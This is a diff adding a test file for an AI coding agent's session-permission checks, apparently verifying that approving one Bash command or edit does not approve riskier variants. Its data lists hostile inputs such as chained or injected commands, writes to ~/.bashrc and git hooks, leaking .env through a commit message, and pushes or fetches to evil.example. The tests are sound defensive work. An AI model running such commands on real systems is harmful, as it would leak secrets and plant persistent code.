@@ -1,0 +1,263 @@
+import { afterAll, expect, test } from "bun:test";
+import { mkdirSync } from "node:fs";
+import { join } from "node:path";
+import type { ToolUseBlock } from "../../src/protocol/block.ts";
+import { sessionRuleInWords, settingsRule, type SessionRule } from "../../src/trust/rules/rules.ts";
+import { nothingShared } from "../../src/tools/toolbox.ts";
+import { type Room, leave, room } from "../tools/room.ts";
+
+afterAll(leave);
+
+const bash = (command: string, id = command): ToolUseBlock => ({
+  type: "tool_use",
+  id,
+  name: "Bash",
+  input: { command },
+});
+
+/** The rule that "yes for the session" sets. */
+async function allowed(at: Room, command: string): Promise<string | null> {
+  const call = bash(command);
+  const review = await at.box.review(call);
+  if (review.verdict !== "ask") throw new Error(`${command} was not asked about`);
+  at.box.allowForSession(call);
+  return review.ask.rule ?? "asked every time";
+}
+
+const verdict = async (at: Room, command: string) =>
+  (await at.box.review(bash(command, `again ${command}`))).verdict;
+
+const exact: Record<string, string[]> = {
+  "npm test": [
+    "npm test --script-shell=./evil",
+    "npm test --prefix evil",
+    "npm test -- --config=evil.js",
+    "npm --prefix evil test",
+    "npm test evil",
+    "npm test; touch x",
+    "npm test && touch x",
+    "npm test | sh",
+    "npm test > ~/.bashrc",
+    "npm test $(touch x)",
+    "npm test & touch x",
+    "FOO=1 npm test",
+    "NODE_OPTIONS=--require=./x npm test",
+    "npm  test",
+    "npm test\ntouch x",
+    "npm t",
+  ],
+  "npm run test -- a": ["npm run test", "npm run test -- b", "npm run build", "npm run testing"],
+  "git push origin main": [
+    "git push",
+    "git push evil main",
+    "git push --receive-pack=./x origin main",
+    "git push origin main:other",
+    "git push origin main --force",
+    "git push https://evil.example main",
+  ],
+  "pytest tests": ["pytest evil.py", "pytest -p evil tests", "pytest --rootdir=/ tests", "pytest"],
+  "make build": ["make build SHELL=./x", "make -f evil build", "make -C evil build", "make"],
+  "cargo run": ["cargo run --manifest-path evil/Cargo.toml", "cargo run --config x"],
+  "go test ./...": ["go test -exec ./evil ./...", "go test -toolexec=./x ./...", "go test ./evil"],
+  "docker build .": ["docker build evil", "docker build -f evil ."],
+  "python3 x.py": ["python3 y.py", "python3 -c 1"],
+  "node -e 1": ["node -e 2"],
+  "npx x": ["npx y"],
+  "git config a b": ["git config a c", "git config core.pager ./x"],
+  "rm x": ["rm y", "rm x y"],
+  "ls > x": ["ls > y", "ls > x; y"],
+  "make $X": ["make $Y", "X=1; make $X"],
+  "find . -exec ls {} +": ["find . -exec rm {} +"],
+  "curl https://example.com": [
+    "curl https://example.com -o .git/hooks/x",
+    "curl https://evil.example",
+  ],
+};
+
+test.each(Object.entries(exact))("only the exact line %j is allowed", async (command, others) => {
+  const at = await room({ sandbox: "off" });
+  expect(await allowed(at, command)).toBe("exactly this command");
+  expect(await verdict(at, command)).toBe("allow");
+  for (const other of [...others, `${command} more`, `${command}; touch x`]) {
+    expect(await verdict(at, other)).not.toBe("allow");
+  }
+});
+
+const grants: [command: string, rule: string, allowed: string[], asked: string[]][] = [
+  [
+    "git add a.txt",
+    '"git add" with any paths',
+    ["git add b.txt c", "git add -A", "git add -u src", "ls && git add a.txt"],
+    [
+      "git add -e",
+      "git add -p",
+      "git add --pathspec-from-file=x",
+      "git add --chmod=+x a",
+      "git add ../x",
+      "git add $X",
+      "git -c a=b add x",
+      "git add a > x",
+    ],
+  ],
+  [
+    "git commit -m 'one'",
+    '"git commit" with any message',
+    [
+      "git commit -m two",
+      "git commit -am 'it; works && well'",
+      "git add -A",
+      "git commit -q -m x",
+    ].filter((line) => !line.startsWith("git add")),
+    [
+      "git commit -m x && touch y",
+      "git commit",
+      "git commit -F .env",
+      "git commit --file=.env -m x",
+      "git commit -t x",
+      "git commit -C HEAD",
+      "git commit --amend",
+      "git commit -m x -- .env",
+      'git commit -m "$(cat .env)"',
+      "git commit -n -m x",
+      "git commit --no-verify -m x",
+      "git commit --gpg-sign=x -m y",
+      "git -c core.hooksPath=evil commit -m x",
+    ],
+  ],
+  [
+    "cargo test",
+    '"cargo test" with other flags and filters',
+    ["cargo test some_name", "cargo test --release -q"],
+    [
+      "cargo test --config x",
+      "cargo test --manifest-path=evil",
+      "cargo test -- --x",
+      "cargo test --target-dir /x",
+      "cargo +evil test",
+      "cargo test -Zx",
+    ],
+  ],
+  [
+    "go build -v ./cmd",
+    '"go build ./cmd" with other flags',
+    ["go build ./cmd"],
+    ["go build", "go build ./other", "go build -o x ./cmd", "go build ./cmd ./other"],
+  ],
+  [
+    "tsc --noEmit",
+    '"tsc" with other flags',
+    ["tsc"],
+    ["tsc -p evil", "tsc --outDir /x", "tsc evil.ts", "tsc --build evil"],
+  ],
+];
+
+test.each(grants)("%j may be granted as %s", async (command, rule, free, asked) => {
+  const at = await room({ sandbox: "off" });
+  expect(await allowed(at, command)).toBe(rule);
+  for (const line of free) expect(await verdict(at, line)).toBe("allow");
+  for (const line of asked) expect(await verdict(at, line)).toBe("ask");
+});
+
+test("a chain is granted command by command", async () => {
+  const at = await room({ sandbox: "off" });
+  const rule = await allowed(at, "git add a && git commit -m x; ls");
+  expect(rule).toBe('"git add" with any paths and "git commit" with any message');
+  expect(await verdict(at, "git add b")).toBe("allow");
+  expect(await verdict(at, "git commit -m y")).toBe("allow");
+  expect(await verdict(at, "git add b && rm x")).toBe("ask");
+});
+
+test("a danger is asked about again although its line was allowed", async () => {
+  const at = await room({ sandbox: "off" });
+  const danger = bash("git push --force");
+  await at.box.review(danger);
+  at.box.allowForSession(danger);
+  expect(await verdict(at, "git push --force")).toBe("ask");
+});
+
+test("permissions end with the session", async () => {
+  const at = await room({ sandbox: "off" });
+  await allowed(at, "npm test");
+  const next = await room({ workspace: at.root, sandbox: "off" });
+  expect(await verdict(next, "npm test")).toBe("ask");
+});
+
+test("a yes to an edit covers edits in the same folder, but not sensitive files", async () => {
+  const at = await room({ sandbox: "off" });
+  const write = (path: string): ToolUseBlock => ({
+    type: "tool_use",
+    id: `write ${path}`,
+    name: "Write",
+    input: { file_path: path, content: "x" },
+  });
+  const review = async (path: string) => (await at.box.review(write(path))).verdict;
+  const first = await at.box.review(write("src/a.ts"));
+  expect(first.verdict === "ask" && first.ask.rule).toBe("editing files in src");
+  at.box.allowForSession(write("src/a.ts"));
+  expect(await review("src/b.ts")).toBe("allow");
+  expect(await review("src/deep/c.ts")).toBe("allow");
+  for (const path of [
+    "srcs/b.ts",
+    "b.ts",
+    "src/../b.ts",
+    "src/.env",
+    "src/.husky/pre-commit",
+    "src/.vscode/tasks.json",
+    "src/extensions/hooks/pre-commit",
+    "src/HEAD",
+  ]) {
+    expect(await review(path)).toBe("ask");
+  }
+});
+
+test.each<[SessionRule, string, string | null]>([
+  [{ kind: "folder", does: "read", folder: "/w/a" }, "reading files in a", "Read(//w/a/**)"],
+  [{ kind: "folder", does: "write", folder: "/w/a" }, "editing files in a", "Edit(//w/a/**)"],
+  [
+    { kind: "folder", does: "write", folder: "/w" },
+    "editing files in the workspace",
+    "Edit(//w/**)",
+  ],
+  [{ kind: "folder", does: "read", folder: "/w/a[b]" }, "reading files in a[b]", null],
+  [{ kind: "line", beyond: null, line: "npm test" }, "exactly this command", "Bash(npm test)"],
+  [{ kind: "line", beyond: null, line: "ls *" }, "exactly this command", null],
+  [{ kind: "line", beyond: null, line: "ls\npwd" }, "exactly this command", null],
+  [{ kind: "tool", tool: "mcp__s__t" }, "every use of mcp__s__t", "mcp__s__t"],
+  [{ kind: "grants", keys: ["a", "b"], words: ["x", "y"] }, "x and y", null],
+])("%j in words, and as a rule for the settings", (rule, words, written) => {
+  const show = (path: string): string => path.slice(3) || ".";
+  expect(sessionRuleInWords(rule, show)).toBe(words);
+  expect(settingsRule(rule, "Bash")).toBe(written);
+});
+
+test("what is allowed for the session holds for its subagents, and vice versa", async () => {
+  const shared = nothingShared();
+  const parent = await room({ shared, sandbox: "off" });
+  const child = await room({ shared, sandbox: "off" });
+  await allowed(parent, "npm test");
+  expect(await verdict(child, "npm test")).toBe("allow");
+  await allowed(child, "make build");
+  expect(await verdict(parent, "make build")).toBe("allow");
+  expect(await verdict(await room({ sandbox: "off" }), "npm test")).toBe("ask");
+  const denying = await room({
+    shared,
+    sandbox: "off",
+    rules: { allow: [], ask: [], deny: ["Bash(npm:*)"] },
+  });
+  expect(await verdict(denying, "npm test")).toBe("refuse");
+});
+
+test.each(["Grep", "Glob"])("a yes to %s in a folder outside is for that folder", async (name) => {
+  const at = await room();
+  const searched = join(at.outside, "searched");
+  mkdirSync(searched);
+  const input = { pattern: "x", path: searched };
+  const call: ToolUseBlock = { type: "tool_use", id: name, name, input };
+  const review = await at.box.review(call);
+  if (review.verdict !== "ask") throw new Error(review.verdict);
+  expect(review.ask.rule).toBe(`reading files in ${searched}`);
+  at.box.allowForSession(call);
+  const read = async (path: string) => (await at.review("Read", { file_path: path })).verdict;
+  expect(await read(join(searched, "a/b.txt"))).toBe("allow");
+  expect(await read(join(at.outside, "a.txt"))).toBe("ask");
+});
